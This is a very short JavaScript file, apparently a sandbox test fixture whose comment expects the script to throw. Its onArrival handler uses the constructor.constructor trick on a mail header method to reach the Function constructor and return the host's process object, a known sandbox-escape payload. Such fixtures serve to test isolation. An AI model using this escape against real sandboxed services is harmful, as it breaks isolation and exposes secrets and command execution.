// The way by an object of ours.
// ends: script.threw
export const onArrival = (mail) => mail.headers.get.constructor.constructor("return process")();
